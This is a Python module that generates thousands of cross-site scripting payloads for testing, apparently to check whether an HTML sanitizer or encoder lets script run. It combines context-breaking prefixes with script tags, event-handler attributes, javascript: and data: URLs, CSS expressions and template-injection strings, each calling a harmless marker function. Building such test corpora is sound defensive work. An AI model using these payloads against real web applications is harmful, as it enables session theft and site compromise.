"""Texts that would run a script if they were written into a page as they are; all of them call ``ran()``."""

from __future__ import annotations

import html
import itertools
from collections.abc import Iterator
from urllib.parse import quote

__all__ = ["attacks"]

# What ends the place where a value stands.
BREAKS = (
    "", '"', "'", ">", '">', "'>", "/>", "</script>", "</style>", "</title>", "</textarea>", "-->", "*/", "`", "\\", '\\"',
    "\\'", "]]>", "\n", "\u2028", "}}", "%}", ";", "&quot;", "&#39;>", "\x00", "</p></div>", ' x="',
)  # fmt: skip

# What runs.
CODE = (
    "<script>ran()</script>", "<script src=data:,ran()></script>", "<img src=x onerror=ran()>", "<svg onload=ran()>",
    "<svg/onload=ran()>", "<body onload=ran()>", "<input autofocus onfocus=ran()>", "<details open ontoggle=ran()>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>", "<iframe src=javascript:parent.ran()></iframe>",
    "<a href=javascript:ran()>x</a>", "<form action=javascript:ran()><button>x</button></form>",
    "<math><mtext></table><mglyph><style><img src=x onerror=ran()>", "<svg><script>ran()</script></svg>",
    "<video><source onerror=ran()>", "<marquee onstart=ran()>", "<object data=javascript:ran()></object>",
    " onmouseover=ran() x=", " autofocus onfocus=ran() tabindex=1 x=", "/onclick=ran()/", " style=animation-name:x onanimationstart=ran() ",
    "javascript:ran()", "JaVaScRiPt:ran()", "java\tscript:ran()", "java\nscript:ran()", "\x01javascript:ran()",
    "  javascript:ran()", "javascript\n:ran()", "javascript&colon;ran()", "&#106;avascript:ran()", "javascript://%0aran()",
    "vbscript:ran()", "data:text/html,<script>parent.ran()</script>", "data:image/svg+xml,<svg onload=parent.ran()>",
    "feed:javascript:ran()", "view-source:javascript:ran()", ";ran();//", "-ran()-", "+ran()+", "ran()", "${ran()}",
    "};ran();{", "url(javascript:ran())", "expression(ran())", "x:expression(ran());", "}*{background:url(javascript:ran())}",
    "@import 'javascript:ran()';", "{{ran()}}", "{% include 'x' %}", "<!--<script>", "<template><script>ran()</script></template>",
)  # fmt: skip

ENDS = ("", "//", "<!--")


def attacks() -> Iterator[str]:
    """All of them, each once; more than 6,600."""
    seen: set[str] = set()
    for broken, code, end in itertools.product(BREAKS, CODE, ENDS):
        plain = broken + code + end
        written = [plain]
        if not end:
            written += [html.escape(plain), quote(plain), plain.upper()]
        for one in written:
            if one not in seen:
                seen.add(one)
                yield one
